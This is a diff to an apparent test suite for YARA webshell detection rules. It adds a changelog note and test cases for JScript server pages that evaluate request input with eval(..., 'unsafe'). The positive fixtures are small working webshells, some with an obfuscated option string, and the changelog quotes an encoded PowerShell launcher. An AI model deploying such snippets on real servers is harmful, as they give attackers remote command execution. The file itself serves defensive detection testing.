@@ -11,7 +11,10 @@ read back in a page that reads the request. Two Razor pages that start a fixed i
 page were missed by everything: ``EXT_WEBSHELL_Razor_Page_Starts_Interpreter``. One classic-ASP launcher (a
 generator's ``x.run "cmd.exe /c powershell.exe ... -encodedCommand <base64>"``) was missed because
 ``EXT_WEBSHELL_Encoded_PowerShell_Launcher`` wanted an ASP.NET directive or ``runat=server``: a classic code block
-driving WScript.Shell now counts as a page for it.
+driving WScript.Shell now counts as a page for it. A third batch brought three JScript pages found by the
+behaviour analysis only - the "unsafe" eval of a variable, with the option in a variable or hex-escaped:
+``EXT_WEBSHELL_JScript_Eval_Security_Option`` (``data/rules/hidden_eval_code.yar``) names any two-argument
+``eval`` in JScript server code.
 
 Known limit, kept on purpose: a classic page that runs a *constant* through ``.Exec(NAME)``, reads its StdOut
 and reads the request for something else looks like the variable-command shape and is named.
@@ -155,10 +158,51 @@ CLASSIC_LAUNCHERS_ORDINARY: list[Page] = [
     ),
 ]
 
+JSCRIPT_EVAL_OPTION: list[Page] = [
+    (
+        "jscript-variable-then-eval-unsafe",
+        ".aspx",
+        '<%@ Page Language="Jscript" %>\n<%\nvar v = Request.Form["v"];\nResponse.Write(eval(v, "unsafe"));\n%>',
+    ),
+    (
+        "jscript-option-in-variable",
+        ".aspx",
+        '<script runat="server" language="JScript">\nfunction run(s) { var o = "un" + "saf" + "e"; var opt = o;'
+        " return eval(s, opt); }\n</script>\n<% run(Request.Item[\"v\"]); %>",
+    ),
+    (
+        "jscript-eval-on-next-line-hex-option",
+        ".aspx",
+        '<%@PAGE LANGUAGE=JSCRIPT%>\n<%var q:String=Request["v"];eval\n(q,"\\x75\\x6E\\x73\\x61\\x66\\x65");%>',
+    ),
+]
+
+JSCRIPT_EVAL_OPTION_ORDINARY: list[Page] = [
+    (
+        "jscript-data-binding-eval-format",
+        ".aspx",
+        '<%@ Page Language="JScript" %>\n<asp:Repeater id="R" runat="server"><ItemTemplate>'
+        '<%# Eval("Price", "{0:c}") %> <%# DataBinder.Eval(Container.DataItem, "Name") %>'
+        "</ItemTemplate></asp:Repeater>",
+    ),
+    (
+        "jscript-eval-of-constant-expression",
+        ".aspx",
+        '<%@ Page Language="JScript" %>\n<% var total = eval("2 + 3"); Response.Write(Math.max(total, 4)); %>',
+    ),
+    (
+        "browser-script-eval-two-arguments",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script type="text/javascript">var r = window.eval("1", 2);'
+        " setTimeout(function () { go(1, 2); }, 10);</script>",
+    ),
+]
+
 CASES: list[RuleCase] = [
     ("EXT_WEBSHELL_Classic_ASP_Shell_Object_Request", CLASSIC_ASP_SHELLS, CLASSIC_ASP_ORDINARY),
     ("EXT_WEBSHELL_Razor_Page_Starts_Interpreter", RAZOR_RUNNERS, RAZOR_ORDINARY),
     ("EXT_WEBSHELL_Encoded_PowerShell_Launcher", CLASSIC_LAUNCHERS, CLASSIC_LAUNCHERS_ORDINARY),
+    ("EXT_WEBSHELL_JScript_Eval_Security_Option", JSCRIPT_EVAL_OPTION, JSCRIPT_EVAL_OPTION_ORDINARY),
 ]
 
 (
